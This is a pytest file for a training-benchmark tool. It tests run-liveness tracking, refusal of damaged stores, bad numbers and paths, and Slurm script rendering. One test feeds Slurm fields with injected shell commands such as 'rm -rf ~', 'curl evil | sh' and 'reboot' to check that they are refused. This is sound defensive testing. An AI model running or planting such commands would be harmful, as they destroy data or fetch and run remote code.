"""Nothing lost, nothing doubled: what tells a live run from a dead one, the final write only while a
run is running and owned, a damaged or mistyped store refused in one line, a sweep that never reruns an
item whose previous run may be alive; refusals of bad numbers, paths and Slurm values. No process is
started here (tests/integration/test_ownership.py kills real ones)."""

from __future__ import annotations

import os
import socket
import sqlite3
import sys
from pathlib import Path

import pytest

import trainperf.store.db as store_db
from trainperf.cli.main import main as cli_main
from trainperf.cli.paths import check_out_folder
from trainperf.core.errors import SpecError
from trainperf.core.processes import process_alive, process_start_time
from trainperf.core.resolve import load_config_file, resolve_spec
from trainperf.core.spec import RunSpec
from trainperf.parallel.launcher import set_parent_death_signal
from trainperf.runner.slurm import parse_config, render_script
from trainperf.runner.sweep import expand
from trainperf.store.db import Store, StoreError, run_may_be_alive

DEAD_PID = 2**22 + 17  # above Linux's pid_max default range: no such process


def _row(s: Store, run_id: str, pid: int | None = None) -> None:
    s.create_run(run_id, "mini-lora", {"a": 1}, "dp_shard=1", 1, "open", False, 0.5, "/runs", pid=pid)


# -- what tells a live run from a dead one ------------------------------------------------------


def test_a_row_records_host_pid_start_time_and_process_group(tmp_path):
    s = Store(tmp_path / "t.db")
    _row(s, "r1")
    row = s.get_run("r1")
    assert (row["host"], row["pid"], row["pgid"]) == (socket.gethostname(), os.getpid(), os.getpgrp())
    assert row["pid_started"] == process_start_time(os.getpid()) is not None


def test_a_reused_pid_is_not_the_recorded_process():
    me, started = os.getpid(), process_start_time(os.getpid())
    assert process_alive(me, started) and not process_alive(me, started - 60) and not process_alive(DEAD_PID)
    here = {"host": socket.gethostname(), "pid_ns": None, "pid_started": started - 60}
    assert not run_may_be_alive(here | {"pid": me, "pgid": None})  # our pid, another start: gone
    assert run_may_be_alive(here | {"pid": DEAD_PID, "pgid": os.getpgrp()})  # its group still has a process
    assert run_may_be_alive(here | {"host": "elsewhere", "pid": DEAD_PID, "pgid": None})  # cannot be asked


def test_a_boot_time_that_moved_a_second_still_names_the_same_process(monkeypatch):
    """btime is whole seconds and moves with the wall clock: a live launcher must not read as gone."""
    from trainperf.core import processes

    me = os.getpid()
    started = process_start_time(me)
    boot = processes._boot_time()
    monkeypatch.setattr(processes, "_boot_time", lambda: boot + 1)
    assert process_alive(me, started) and not process_alive(me, started - 60)


def test_the_reaper_spares_a_run_whose_group_lives_and_reaps_a_reused_pid(tmp_path):
    s = Store(tmp_path / "t.db")
    _row(s, "orphans", pid=DEAD_PID)
    s.update_run_info("orphans", pgid=os.getpgrp())  # its ranks still run
    _row(s, "reused")
    s.conn.execute("UPDATE runs SET pid_started = pid_started - 60, pgid = NULL WHERE run_id = 'reused'")
    assert s.reap_dead_runs() == ["reused"]
    assert s.get_run("orphans")["status"] == "running" and s.get_run("reused")["status"] == "failed"


def test_the_final_write_lands_only_while_running_and_owned(tmp_path):
    s = Store(tmp_path / "t.db")
    _row(s, "r1", pid=DEAD_PID)
    assert s.reap_dead_runs() == ["r1"]  # the launcher was killed; the row says failed
    assert s.finish_run("r1", owner_pid=DEAD_PID, status="success", time_to_train_s=1.0) is False
    row = s.get_run("r1")
    assert row["status"] == "failed" and row["time_to_train_s"] is None
    _row(s, "r2")
    assert s.finish_run("r2", owner_pid=DEAD_PID, status="success") is False  # not the row's owner
    assert s.finish_run("r2", owner_pid=os.getpid(), status="success") is True
    assert s.get_run("r2")["status"] == "success"


def test_a_v5_store_gains_the_v6_columns_and_keeps_every_row(tmp_path, monkeypatch):
    path = tmp_path / "old.db"
    monkeypatch.setattr(store_db, "SCHEMA_VERSION", 5)
    old = Store(path)
    with old.transaction() as c:
        c.execute("""INSERT INTO runs (run_id, created_at, workload, status, spec_json, layout, world_size, host, pid,
                     pid_ns) VALUES ('r1', 1.0, 'mini-lora', 'success', '{}', 'dp_shard=1', 1, 'h', 1, 'ns')""")
    old.add_sweep_items("sw", [{"item_id": "a", "workload": "mini-lora", "nproc": 1, "overrides": {}}])
    old.close()
    monkeypatch.setattr(store_db, "SCHEMA_VERSION", 6)
    new = Store(path)
    assert new.schema_version == 6
    assert new.get_run("r1")["status"] == "success" and new.get_run("r1")["pgid"] is None
    assert [r["item_id"] for r in new.sweep_items("sw")] == ["a"]


def test_a_sweep_never_claims_an_item_whose_previous_run_may_be_alive(tmp_path):
    s = Store(tmp_path / "t.db")
    s.add_sweep_items("sw", [{"item_id": i, "workload": "mini-lora", "nproc": 1, "overrides": {}} for i in "ab"])
    # item a: its sweep was killed (a pid that is gone) while the run it started still runs (our group)
    s.conn.execute("UPDATE sweep_items SET status = 'running', owner_host = ?, owner_pid = ?, run_pgid = ? "
                   "WHERE item_id = 'a'", (socket.gethostname(), DEAD_PID, os.getpgrp()))
    assert s.claim_sweep_item("sw", "a") is None and s.claim_sweep_item("sw", "a", take_over=True) is None
    assert "still running" in s.sweep_item_holder("sw", "a")
    # item b: back to pending after a stop, its run's row still running in a live process (this one)
    _row(s, "run-b")
    s.set_sweep_item("sw", "b", "pending", "run-b")
    assert s.claim_sweep_item("sw", "b") is None and "run-b" in s.sweep_item_holder("sw", "b")
    s.mark_failed_if_running("run-b", "ended")
    assert s.claim_sweep_item("sw", "b")["status"] == "running"


# -- a damaged or mistyped store ----------------------------------------------------------------


def _filled_store(path: Path) -> None:
    s = Store(path)
    for i in range(60):
        s.create_run(f"r{i}", "mini-lora", {"pad": "x" * 800}, "dp_shard=1", 1, "open", False, 0.5, "/runs")
    s.close()


def test_a_damaged_store_is_refused_in_one_line_and_left_unwritten(tmp_path, capsys):
    path = tmp_path / "t.db"
    _filled_store(path)
    data = bytearray(path.read_bytes())
    data[len(data) // 2: len(data) // 2 + 4096] = bytes((i * 37 + 11) % 256 for i in range(4096))
    path.write_bytes(bytes(data))
    with pytest.raises(StoreError, match="damaged") as exc:
        Store(path)
    assert "\n" not in str(exc.value)
    assert path.read_bytes() == bytes(data) and sorted(os.listdir(tmp_path)) == ["t.db"]
    assert cli_main(["report", "--db", str(path)]) == 2
    assert cli_main(["sweep", "status", "--db", str(path)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 2 and all("damaged" in line for line in err)
    assert path.read_bytes() == bytes(data)


def test_report_refuses_a_cell_of_the_wrong_type_naming_table_and_column(tmp_path, capsys):
    path = tmp_path / "t.db"
    s = Store(path)
    _row(s, "r1")
    s.finish_run("r1", status="success", time_to_train_s=2.0)
    s.conn.execute("UPDATE runs SET time_to_train_s = 'fast' WHERE run_id = 'r1'")
    s.close()
    assert cli_main(["report", "--db", str(path)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "runs.time_to_train_s" in err[0]


def test_a_store_that_cannot_be_created_leaves_no_file(tmp_path, monkeypatch):
    def full(self):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(Store, "_switch_to_wal", full)
    with pytest.raises(StoreError, match="disk is full"):
        Store(tmp_path / "new.db")
    assert os.listdir(tmp_path) == []


# -- numbers, paths and files that are refused --------------------------------------------------


@pytest.mark.parametrize("override, says", [
    ("train.collective_timeout_s=1e15", "must be in [1, 604800]"),
    ("train.collective_timeout_s=0.0005", "must be in [1, 604800]"),
    ("data.train_samples=1000000000", "at most 1073741824 tokens"),
    ("train.lr=nan", "finite"),
])
def test_huge_tiny_and_nan_numbers_are_refused_with_their_bound(override, says):
    from trainperf.workloads.mini import mini_pretrain_defaults  # the mini workload's defaults (torch-free spec)

    with pytest.raises(SpecError) as exc:
        resolve_spec(mini_pretrain_defaults(), None, [override])
    assert says in str(exc.value)


def test_a_config_file_cannot_change_the_workload_and_a_folder_is_called_a_folder(tmp_path):
    (tmp_path / "c.yaml").write_text("workload: llama31_8b\ntrain:\n  lr: 0.001\n")
    with pytest.raises(SpecError, match="differs from the workload"):
        resolve_spec(RunSpec(workload="mini-lora"), str(tmp_path / "c.yaml"), [])
    (tmp_path / "same.yaml").write_text("workload: mini-lora\n")
    assert resolve_spec(RunSpec(workload="mini-lora"), str(tmp_path / "same.yaml"), []).workload == "mini-lora"
    with pytest.raises(SpecError, match="is a folder"):
        load_config_file(str(tmp_path))


def test_out_folder_checks_create_nothing(tmp_path, monkeypatch):
    (tmp_path / "f").write_text("x")
    with pytest.raises(SpecError, match="is a file, so no folder"):
        check_out_folder(str(tmp_path / "f" / "runs"))
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    with pytest.raises(SpecError, match="not writable"):
        check_out_folder(str(tmp_path / "runs"))
    monkeypatch.undo()
    import shutil

    monkeypatch.setattr(shutil, "disk_usage", lambda path: shutil._ntuple_diskusage(10**9, 10**9 - 2**20, 2**20))
    with pytest.raises(SpecError, match="1 MiB free"):
        check_out_folder(str(tmp_path / "runs"))
    assert sorted(os.listdir(tmp_path)) == ["f"]


def test_refused_commands_leave_no_file(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    db = str(tmp_path / "t.db")
    assert cli_main(["run", "mini-lora", "--db", db, "--out", "runs", "--layout-from-plan", "nope:P1"]) == 2
    assert cli_main(["plan", "mini-lora", "--gpus", "2", "--db", db, "--gbs", "x"]) == 2
    assert cli_main(["trace", "mini-lora", "--out", "traces", "--set", "train.nope=1"]) == 2
    assert os.listdir(tmp_path) == []


def test_sweep_grid_with_an_empty_list_is_refused():
    with pytest.raises(SpecError, match="empty list"):
        expand({"name": "s", "runs": [{"workload": "mini-lora", "set": {"train.lr": []}}]}, "sweep file 's.yaml'")


@pytest.mark.parametrize("slurm, says", [
    ({"partition": "gpu\nrm -rf ~"}, "slurm.partition"),
    ({"time": "1:00:00\ncurl evil | sh"}, "slurm.time"),
    ({"account": "proj; reboot"}, "slurm.account"),
    ({"extra_sbatch": ["--qos=high\ntouch /tmp/x"]}, "extra_sbatch"),
    ({"container_image": "img\nid"}, "line break"),
])
def test_a_hostile_slurm_value_is_refused_before_any_script_is_rendered(slurm, says):
    with pytest.raises(SpecError, match=says):
        parse_config(slurm, "sweep file 's.yaml'")


def test_slurm_values_in_slurms_syntax_render_as_given(tmp_path):
    cfg = parse_config({"partition": "gpu,debug", "time": "1-02:00:00", "account": "proj.a-1",
                        "extra_sbatch": ["--qos=high", "#SBATCH --mem=0"], "container_image": "nvcr.io/x:1 y"}, "s")
    item = {"item_id": "abc", "workload": "mini-lora", "nproc": 1, "overrides": {"train.lr": "1e-4; id"}}
    text = render_script(item, cfg, sweep_id="s", db=str(tmp_path / "t.db"), out=str(tmp_path), extra_sets=[],
                         directory=tmp_path, workdir=str(tmp_path))
    assert "#SBATCH --partition=gpu,debug" in text and "#SBATCH --time=1-02:00:00" in text
    assert "'--container-image=nvcr.io/x:1 y'" in text and "'train.lr=1e-4; id'" in text


# -- warnings, summaries, the parent-death signal -----------------------------------------------


def test_a_metrics_host_beyond_loopback_is_warned_about_once(capsys):
    from trainperf.runner.local import check_metrics_endpoint  # the runner imports torch

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    check_metrics_endpoint("127.0.0.1", port)
    assert capsys.readouterr().err == ""
    check_metrics_endpoint("0.0.0.0", port)
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "'0.0.0.0'" in err[0] and "warning" in err[0]


def test_the_summary_of_an_abnormal_end_prints_without_a_traceback(tmp_path, capsys):
    from trainperf.cli.run import _print_summary  # the run command's closing lines
    from trainperf.runner.local import abnormal_end_summary  # the runner imports torch
    from trainperf.workloads.mini import mini_pretrain_defaults  # the mini workload's defaults

    s = Store(tmp_path / "t.db")
    _row(s, "r1")
    s.mark_failed_if_running("r1", "interrupted: received SIGTERM")
    s.close()
    from trainperf.runner.row import RunRow

    row = RunRow(tmp_path / "t.db", "r1")
    summary = abnormal_end_summary(mini_pretrain_defaults(), row, tmp_path / "r1").as_dict()
    row.close()
    _print_summary(summary)
    out = capsys.readouterr().out
    assert "FAILED" in out and "received SIGTERM" in out and str(tmp_path / "r1" / "mllog.txt") in out
    _print_summary({"run_id": "r2", "status": "failed"})  # what an older launcher returned
    assert "r2" in capsys.readouterr().out


def test_a_reason_with_square_brackets_prints_as_written(capsys):
    from trainperf.cli.run import _print_summary

    reason = "RuntimeError: [/__w/pytorch/third_party/gloo/transport/tcp/pair.cc:553] Connection closed by peer [red]"
    _print_summary({"run_id": "r3", "status": "failed", "status_reason": reason, "mllog": "/runs/[x]/mllog.txt"})
    out = capsys.readouterr().out
    assert reason in out and "/runs/[x]/mllog.txt" in out


def test_tune_refuses_nan_and_infinite_numbers(capsys):
    assert cli_main(["tune", "mini-lora", "--gpus", "1", "--budget-minutes", "inf"]) == 2
    assert cli_main(["tune", "mini-lora", "--gpus", "1", "--abandon-factor", "nan"]) == 2
    assert cli_main(["tune", "mini-lora", "--gpus", "1", "--keep-within", "nan"]) == 2
    assert cli_main(["tune", "mini-lora", "--gpus", "1", "--set", "parallel.tp=0"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 4 and "a week" in err[0] and "--abandon-factor nan" in err[1] and "parallel.tp" in err[3]


@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="prctl is Linux's")
def test_the_parent_death_signal_can_be_asked_for():
    try:
        assert set_parent_death_signal() is True
    finally:
        set_parent_death_signal(0)  # this test process keeps no death signal


def test_a_parquet_file_with_a_duplicated_column_is_refused_in_one_line(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    from trainperf.data.tokens import inspect_any  # the dataset readers

    ids = pa.array([[1, 2, 3, 4]] * 4, type=pa.list_(pa.int64()))
    table = pa.Table.from_arrays([ids, ids, ids], names=["input_ids", "labels", "labels"])
    for split in ("train", "validation"):
        pq.write_table(table, tmp_path / f"{split}.parquet")
    with pytest.raises(SpecError, match="labels more than once"):
        inspect_any(str(tmp_path), 4, 64)


def test_a_read_only_store_is_called_read_only(tmp_path, monkeypatch):
    Store(tmp_path / "t.db").close()

    def read_only(self):
        raise sqlite3.OperationalError("attempt to write a readonly database")

    monkeypatch.setattr(Store, "_switch_to_wal", read_only)
    with pytest.raises(StoreError, match="is read-only here"):
        Store(tmp_path / "t.db")
    assert (tmp_path / "t.db").exists()  # an existing store is never removed


def test_ranks_are_forked_only_for_an_importable_module_file():
    from trainperf.parallel.torchrun import forked_ranks_argv

    head = ["--standalone", "--nproc-per-node=2"]
    argv = forked_ranks_argv([*head, "-m", "trainperf.runner.worker", "RUN_DIR"])
    assert argv[:2] == head and argv[2:5] == ["--run-path", "--start-method", "fork"]
    assert argv[5].endswith("trainperf/runner/worker.py") and argv[6:] == ["RUN_DIR"]
    assert "trainperf.runner.worker" in sys.modules  # imported once, before any rank forks
    for kept in ([*head, "script.py", "x"], [*head, "-m", "trainperf_no_such_module", "x"],
                 [*head, "-m", "json", "x"]):  # no -m; a module that does not import; a package (not a file)
        assert forked_ranks_argv(kept) == kept
